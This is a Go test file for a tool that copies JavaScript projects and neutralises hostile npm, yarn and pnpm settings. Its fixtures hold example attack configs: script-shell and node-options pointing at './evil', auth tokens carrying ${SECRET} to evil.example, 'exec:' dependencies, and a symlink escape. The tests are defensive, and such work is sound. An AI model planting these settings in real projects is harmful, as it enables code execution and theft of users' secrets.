package mend

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// hostile is the copy of a project with such files.
func hostile(t *testing.T, environ []string, files map[string]string) *scratch {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "shop")
	for name, text := range files {
		at := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(at), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(at, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	s, err := copyOf(t.Context(), dir, false, environ)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.close() })
	return s
}

// TestSettingsOfAProjectRunNothing: a package manager in the copy finds no setting of the
// project that names a program, a folder outside, or a way to read what the user sends.
func TestSettingsOfAProjectRunNothing(t *testing.T) {
	s := hostile(t, nil, map[string]string{
		".npmrc": "git=./evil\nscript-shell=./evil\nnode-options=--require ./evil\nprefix=/evil\nglobalconfig=/evil\nuserconfig=evil\npnpmfile=evil\n" +
			"proxy=http://evil\nhttps-proxy=http://evil\nstrict-ssl=false\ncafile=evil\n//registry.npmjs.org/:certfile=evil\nignore-scripts=false evil\n" +
			"registry=https://evil/${HOME}/\n//evil.example/:_authToken=${SECRET}\n@kept:registry=https://kept.example/\n",
		"sub/.npmrc":         "script-shell=evil\n",
		".yarnrc":            "yarn-path \"./evil.js\"\n\"yarn-path\" evil\n--modules-folder /evil\ncache-folder /evil\n\"@kept:registry\" \"https://kept.example\"\n",
		".yarnrc.yml":        "yarnPath: ./evil.js\ninitScope: evil\ncacheFolder: /evil\nhttpsProxy: http://evil\nenableStrictSsl: false\nnpmAuthToken: ${evil}\nnpmRegistryServer: \"https://${evil}/\"\nnodeLinker: kept\n",
		".pnpmfile.cjs":      "evil",
		"sub/.pnpmfile.mjs":  "evil",
		".corepack.env":      "COREPACK_NPM_REGISTRY=http://evil\n",
		"sub/.YARNRC.yml":    "yarnPath: evil\n",
		"sub/a/pnpmfile.js":  "evil",
		"sub/a/ok/.npmrc":    strings.Repeat("#", maxSettings) + "\nregistry=https://evil/\n",
		"sub/b/.yarnrc.yml":  "{evil: &a [1], nodeLinker: *a, plugins: [./evil.cjs]",
		"sub/c/.yarnrc.yml":  "{\"plugins\": [./evil.cjs]}",
		"sub/c/package.json": "{}",
	})
	kept := 0
	filepath.WalkDir(s.dir, func(at string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		text, err := os.ReadFile(at)
		if strings.Contains(string(text), "evil") {
			t.Errorf("%s of the copy has\n%.300s", at, text)
		}
		kept += strings.Count(string(text), "kept")
		return err
	})
	if kept != 5 {
		t.Errorf("%d of 5 words are kept", kept)
	}
	var noted []string
	for _, c := range s.code {
		noted = append(noted, c.name)
	}
	slices.Sort(noted)
	want := []string{".pnpmfile.cjs", "sub/.pnpmfile.mjs", "sub/a/pnpmfile.js", "sub/b/.yarnrc.yml", "sub/c/.yarnrc.yml"}
	if !slices.Equal(noted, want) {
		t.Errorf("noted as code are %q, not %q", noted, want)
	}
}

// TestNoManagerRunsCode: pnpm and yarn are not even started where a file of the project
// would have them run something.
func TestNoManagerRunsCode(t *testing.T) {
	for name, c := range map[string]struct {
		manager, dir, file, text string
	}{
		"a pnpmfile":                  {"pnpm", "sub", ".pnpmfile.cjs", "x"},
		"code by a workspace":         {"pnpm", "sub", "pnpm-workspace.yaml", "packages: [sub]\nconfigDependencies: {pnpm-plugin-x: 1.0.0+sha512-x}\n"},
		"a file named by a workspace": {"pnpm", ".", "pnpm-workspace.yaml", "pnpmfile: x.cjs\n"},
		"a hidden setting":            {"pnpm", ".", "pnpm-workspace.yaml", "a: &a {pnpmfile: x.cjs}\n<<: *a\n"},
		"code by package.json":        {"pnpm", ".", "package.json", `{"pnpm": {"configDependencies": {"pnpm-plugin-x": "1"}}}`},
		"git":                         {"pnpm", ".", "package.json", `{"dependencies": {"x": "me/x"}}`},
		"git in a lockfile":           {"pnpm", ".", "pnpm-lock.yaml", "packages:\n  x@1:\n    resolution: {commit: 1, repo: https://x, type: git}\n"},
		"plugins above":               {"yarn", "sub", ".yarnrc.yml", "{plugins: [x.cjs]}"},
		"a program":                   {"yarn", ".", "sub/package.json", `{"dependencies": {"x": "\u0065xec:./x.js"}}`},
		"a program instead":           {"yarn", ".", "package.json", `{"resolutions": {"y": "patch:x@exec%3A./x.js#p"}}`},
		"a program in a lockfile":     {"yarn", "sub", "sub/yarn.lock", "\n__metadata:\n  version: 8\n\n\"x@npm:1\":\n  dependencies:\n    y: \"\\u0065xec:./x.js\"\n"},
		"git, patched":                {"yarn", ".", "package.json", `{"devDependencies": {"y": "patch:x@https%3A//github.com/me/x#p"}}`},
	} {
		files := map[string]string{"package.json": "{}", "sub/package.json": "{}"}
		files[c.file] = c.text
		u := &unit{scratch: hostile(t, nil, files), dir: c.dir}
		for _, m := range managers {
			if m.name == c.manager {
				u.manager = m
			}
		}
		ctx, cancel := context.WithCancel(t.Context())
		cancel() // whatever is started ends, with another error
		if err := u.renew(ctx, u, nil); err == nil || !strings.Contains(err.Error(), c.file) {
			t.Errorf("%s: it said %v", name, err)
		}
	}
	// What is none of that is no hindrance.
	u := &unit{manager: managers[2], dir: ".", scratch: hostile(t, nil, map[string]string{
		"package.json":        `{"workspaces": ["packages/a"], "repository": "github:me/x", "dependencies": {"a": "npm:@b/c@1", "d": "file:../d", "e": "https://r.example/e.tgz", "f": "patch:x@npm%3A1#./p"}, "pnpm": {"patchedDependencies": {"a": "patches/a.patch"}}}`,
		"pnpm-workspace.yaml": "packages:\n  - packages/*\ncatalog:\n  a: ^1\n",
		"pnpm-lock.yaml":      "packages:\n  a@1.0.0:\n    resolution: {integrity: sha512-x}\n    deprecated: see https://github.com/a/a\n",
	})}
	if err := u.codeless(nil); err != nil {
		t.Error(err)
	}
}

// TestNoSecretToStrangers: the registry that a project names is not sent what stands in
// the environment; one that the user names, too, is.
func TestNoSecretToStrangers(t *testing.T) {
	dir, home := t.TempDir(), t.TempDir()
	environ := []string{"HOME=" + home, "SECRET=s3cret", "TOKEN=t0ken"}
	os.WriteFile(filepath.Join(home, ".npmrc"), []byte("@own:registry=https://own.example/npm/\n"), 0o600)
	os.WriteFile(filepath.Join(dir, ".npmrc"), []byte("registry=https://evil.example/${SECRET}/\n@a:registry=https://evil.example/\n"+
		"//evil.example/:_authToken=${SECRET}\n//own.example.evil.example/:_authToken=${SECRET}\n//own.example/npm/:_authToken=${TOKEN}\n//evil.example/${SECRET}:_authToken=1\n"), 0o600)
	s := LoadNPMRC(dir, environ)
	for name, value := range s {
		if strings.Contains(name+value, "s3cret") {
			t.Errorf("%s is %s", name, value)
		}
	}
	if got := s.Registry("express"); got != npmRegistry {
		t.Errorf("a registry with the environment in its address counts: %s", got)
	}
	if got := s.Authorization("https://own.example/npm/@own/x"); got != "Bearer t0ken" {
		t.Errorf("the registry of the user is sent %q", got)
	}
}

func TestGuardedEnvironment(t *testing.T) {
	abs, err := filepath.Abs("/bin")
	if err != nil {
		t.Fatal(err)
	}
	list := string(filepath.ListSeparator)
	env := guarded([]string{"PATH=." + list + "node_modules/.bin" + list + list + abs, "npm_config_git=./evil"})
	if env[0] != "PATH="+abs {
		t.Errorf("PATH changes with the folder: %q", env[0])
	}
	if last := slices.Index(env, "npm_config_git=git"); last < 1 {
		t.Errorf("the project says what git is: %q", env)
	}
}

// TestCopyOfWhatChanges: what was a file when it was listed may be a link by now.
func TestCopyOfWhatChanges(t *testing.T) {
	s := hostile(t, nil, map[string]string{"a": "1"})
	outside := filepath.Join(t.TempDir(), "secret")
	os.WriteFile(outside, []byte("secret"), 0o600)
	if err := os.Symlink(outside, filepath.Join(s.from, "b")); err != nil {
		t.Fatal(err)
	}
	var err error
	if s.root, err = os.OpenRoot(s.from); err != nil {
		t.Fatal(err)
	}
	defer s.root.Close()
	if err := s.file("b", filepath.Join(s.dir, "b"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(filepath.Join(s.dir, "b")); err == nil {
		t.Error("it was copied from outside")
	}
}
